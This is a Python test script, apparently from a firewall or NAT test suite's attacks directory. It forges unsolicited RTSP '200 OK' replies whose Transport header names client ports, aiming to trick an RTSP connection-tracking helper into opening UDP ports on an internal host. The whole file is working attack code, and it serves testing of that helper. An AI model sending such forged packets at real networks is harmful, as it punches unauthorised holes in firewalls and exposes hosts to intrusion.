"""An answer that nobody asked for, from a server that nobody speaks with: ``client_port=5353-5354``.

It hopes that the helper takes the connection for one that it picked up half-way and opens what the answer
names: any UDP port of any box, from one packet. Four answers fill what a box may have open.
"""

from __future__ import annotations

from tests.attacks import wire
from tests.attacks.packet import ACK, PSH, End, lines, tcp


def attack(
    wire_: wire.Wire,
    server: str = "172.26.83.66",
    box: str = "192.168.1.200",
    port: int = 5353,
    count: int = 4,
    rate: float = 100.0,
    seconds: float = 0.0,
) -> int:
    sent = 0
    for number in wire.pace(rate, seconds or count / rate):
        first = port + 2 * (number % 4)
        answer = lines(
            "RTSP/1.0 200 OK",
            "CSeq: 3",
            f"Session: {number}",
            f"Transport: MP2T/H2221/UDP;unicast;client_port={first}-{first + 1}",
        )
        source, target = End(server, 554), End(box, 40000 + number % 4)
        wire_.send(tcp(source, target, seq=1000, ack=2000, flags=ACK | PSH, data=answer))
        sent += 1
    return sent


if __name__ == "__main__":
    wire.run(attack)
